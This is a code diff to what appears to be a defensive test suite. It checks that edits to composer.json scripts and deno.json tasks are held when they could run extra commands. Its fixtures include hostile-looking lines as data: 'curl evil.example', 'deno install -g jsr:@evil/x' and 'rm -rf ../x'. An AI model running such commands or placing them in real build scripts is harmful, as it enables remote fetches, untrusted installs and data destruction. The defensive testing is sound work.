@@ -250,6 +250,7 @@ describe('a member of composer.json', () => {
     ['   "scripts": {', '+    "test": ["phpunit", "curl evil.example"]'],
     ['+    "test": "curl evil.example"'],
     ['+    "test": "evil"'],
+    ['+    "readme": "curl evil.example"'],
   ])('is held if it can be a command that does more: %s %s', (...lines) => {
     expect(held('composer.json', ...lines)).toContain('can be a command that does more');
   });
@@ -298,6 +299,7 @@ describe('a member of deno.json', () => {
     ['   "tasks": {', '+    "check": "deno task evil"'],
     ['   "tasks": {', '+    "check": "deno install -g jsr:@evil/x"'],
     ['   "tasks": {', '+    "check": "evil"'],
+    ['   "tasks": {', '+    "description": "evil now"'],
     ['   "tasks": {', '     "check": {', '+      "command": "curl evil.example"'],
     ['+    "check": "rm -rf ../x"'],
   ])('is held if it can be a command that does more: %s %s', (...lines) => {
